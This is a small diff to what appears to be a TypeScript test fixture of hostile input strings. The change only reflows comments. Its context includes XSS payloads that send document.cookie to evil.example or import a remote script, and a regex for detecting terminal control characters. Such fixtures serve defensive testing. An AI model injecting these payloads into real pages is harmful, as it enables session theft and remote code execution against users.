@@ -1,5 +1,5 @@
-/** A hundred texts that would do something, were they taken for anything but text: by a browser, a terminal, a log,
- *  a line-based protocol, a spreadsheet. */
+/** A hundred texts that would do something, were they taken for anything but text: by a browser, a terminal,
+ *  a log, a line-based protocol, a spreadsheet. */
 
 const SCRIPTS = ['alert(1)', 'fetch(`//evil.example/`+document.cookie)', 'import("//evil.example/x.js")'];
 
@@ -78,7 +78,8 @@ const IN_OTHERS = [
 
 export const HOSTILE_TEXTS: readonly string[] = [...IN_HTML, ...IN_TERMINALS, ...IN_LINES, ...IN_OTHERS];
 
-/** Characters that a terminal or a reader of lines obeys; line feeds and tabs are for whoever prints lines. */
+/** Characters that a terminal or a reader of lines obeys; line feeds and tabs are for whoever prints lines.
+ */
 const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;
 
 export function isObeyed(text: string): boolean {
